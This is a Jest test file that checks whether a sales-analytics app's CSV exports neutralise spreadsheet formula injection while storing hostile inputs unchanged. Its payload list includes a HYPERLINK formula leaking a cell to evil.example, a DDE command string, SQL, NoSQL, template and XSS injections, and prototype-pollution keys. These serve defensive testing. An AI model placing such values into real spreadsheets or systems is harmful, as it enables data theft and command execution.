import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { run } from '../../apps/cli/run.ts';
import { Writable } from 'node:stream';
import { startServer, type Harness } from './http-server.ts';

/** Texts that do harm somewhere: in a spreadsheet, a database, a template, an object. */
const texts = [
  '=1+1',
  '=HYPERLINK("http://evil.example?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+1-1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1',
  '＝1+1',
  "'; DROP TABLE events; --",
  "' OR '1'='1",
  '__proto__',
  'constructor',
  'hasOwnProperty',
  '{"$gt":""}',
  '${7*7}',
  '<script>alert(1)</script>',
  'a,b;"c"\n=d',
];
const formula = /^[=+\-@\t＝]/;
const guarded = (text: string): string => (formula.test(text) ? `'${text}` : text);

const data = mkdtempSync(join(tmpdir(), 'leadfold-'));
let server: Harness;

beforeAll(async () => {
  server = await startServer({ LEADFOLD_DATA: data });
  for (const [index, text] of texts.entries()) {
    const leadId = `lead-${index}`;
    await server.post('/v1/leads', { id: leadId, origin: text, country: text, campaign: text, name: text });
    const deal = await server.post('/v1/opportunities', { id: `deal-${index}`, leadId, owner: text });
    await server.post(`/v1/opportunities/deal-${index}/win`, {});
    const total = { amount: 1_299, currency: 'EUR' };
    const order = await server.post('/v1/orders', { id: `order-${index}`, leadId, total, country: text });
    expect([deal.status, order.status]).toEqual([201, 201]);
  }
  for (const half of ['a', 'b']) {
    const touchpoints = Array.from({ length: 600 }, (_, n) => ({
      id: `${half}-${n}`,
      type: 'PageViewed',
      leadId: 'lead-0',
    }));
    await server.post('/v1/touchpoints', { touchpoints });
  }
  await server.engine.projector.catchUp();
}, 60_000);

afterAll(async () => {
  await server.close();
  rmSync(data, { recursive: true, force: true });
});

const tableOf = (csv: string): readonly Readonly<Record<string, string>>[] =>
  parse(csv, { columns: true, record_delimiter: '\n' });

const overHttp = async (path: string): Promise<readonly Readonly<Record<string, string>>[]> => {
  const { status, headers, text } = await server.get(path, { accept: 'text/csv' });
  expect([status, headers['content-type']]).toEqual([200, 'text/csv; charset=utf-8; header=present']);
  return tableOf(text);
};

const onCommandLine = async (
  ...words: readonly string[]
): Promise<readonly Readonly<Record<string, string>>[]> => {
  let [out, err] = ['', ''];
  const into = (take: (text: string) => void): Writable =>
    new Writable({
      write: (chunk: Buffer, _, done) => {
        take(chunk.toString());
        done();
      },
    });
  const code = await run([...words, '--csv', '--data', data], {
    stdout: into(text => (out += text)),
    stderr: into(text => (err += text)),
    environment: {},
    signal: new AbortController().signal,
  });
  expect({ code, err: err.startsWith('leadfold:') ? err : '' }).toEqual({ code: 0, err: '' });
  return tableOf(out);
};

/** No cell and no heading begins like a formula, unless it is a number. */
const expectHarmless = (rows: readonly Readonly<Record<string, string>>[]): void => {
  expect(rows.length).toBeGreaterThan(0);
  for (const row of rows)
    for (const cell of Object.entries(row).flat())
      if (formula.test(cell)) expect(cell).toMatch(/^-?\d+(\.\d+)?$/);
};

describe('texts that do harm elsewhere', () => {
  it('are kept as they came', async () => {
    for (const [index, text] of texts.entries()) {
      const { json } = await server.get(`/v1/events?leadId=lead-${index}&type=LeadCaptured`);
      expect(json.data[0]!.data).toMatchObject({ origin: text, country: text, personal: { name: text } });
    }
  });

  it('are groups of their own, and found by their own words', async () => {
    const { json } = await server.get('/v1/close-rate?by=origin');
    expect(json.rows.map(({ by, leads }) => [by['origin'], leads]).sort()).toEqual(
      texts.map(text => [text, 1]).sort(),
    );
    for (const text of texts) {
      const { json: one } = await server.get(`/v1/close-rate?where=${encodeURIComponent(`origin:${text}`)}`);
      expect(one.rows).toMatchObject([{ leads: 1, won: 1 }]);
    }
  });

  it('change nothing about objects', () => {
    expect(({} as Readonly<Record<string, unknown>>)['admin']).toBeUndefined();
    expect(Object.keys(Object.prototype)).toEqual([]);
  });
});

describe('CSV over HTTP', () => {
  it.each([
    ['/v1/funnel?by=origin,country', 'origin'],
    ['/v1/close-rate?by=campaign', 'campaign'],
    ['/v1/sales-cycle?by=owner', 'owner'],
    ['/v1/revenue?grain=month&by=country', 'country'],
    ['/v1/projections/lead-funnel/cells?by=origin', 'origin'],
    ['/v1/funnel?events=LeadCaptured,OrderPlaced&by=origin', 'origin'],
    ['/v1/leads', 'origin'],
    ['/v1/leads', 'country'],
  ])('%s quotes formulas and nothing else', async (path, column) => {
    const rows = await overHttp(path);
    expectHarmless(rows);
    expect(new Set(rows.map(row => row[column]))).toEqual(new Set(texts.map(guarded)));
  });

  it.each([
    '/v1/events?limit=500',
    '/v1/explain/lead-funnel',
    '/v1/explain/lead-funnel?entity=lead-1',
    '/v1/leads?limit=3',
    '/v1/leads/lead-0/score',
    '/v1/leads/lead-0/timeline?limit=2',
    '/v1/projections',
    '/v1/projections/lead-funnel',
    '/v1/churn?grain=month',
    '/v1/retention?grain=month',
  ])('%s has rows without formulas', async path => {
    expectHarmless(await overHttp(path));
  });
});

describe('CSV on the command line', () => {
  it.each([
    [['query', 'funnel', '--by', 'origin'], 'origin'],
    [['query', 'close-rate', '--by', 'campaign'], 'campaign'],
    [['query', 'sales-cycle', '--by', 'owner'], 'owner'],
    [['query', 'revenue', '--grain', 'month', '--by', 'country'], 'country'],
    [['projections', 'cells', 'lead-funnel', '--by', 'origin'], 'origin'],
    [['query', 'funnel', '--events', 'LeadCaptured,OrderPlaced', '--by', 'origin'], 'origin'],
  ])('%j quotes formulas and nothing else', async (words, column) => {
    const rows = await onCommandLine(...words);
    expectHarmless(rows);
    expect(new Set(rows.map(row => row[column]))).toEqual(new Set(texts.map(guarded)));
  });

  it.each([
    [['events']],
    [['explain', 'lead-funnel']],
    [['explain', 'lead-funnel', '--entity', 'lead-1']],
    [['projections']],
    [['projections', 'status']],
    [['query', 'churn', '--grain', 'month']],
    [['query', 'retention', '--grain', 'month']],
  ])('%j has rows without formulas', async words => {
    expectHarmless(await onCommandLine(...words));
  });

  it('has headings once, though there are two pages of events', async () => {
    const rows = await onCommandLine('events');
    expect(rows).toHaveLength(await server.engine.events.head());
    expect(rows.every(({ position }) => /^\d+$/.test(position ?? ''))).toBe(true);
  });
});
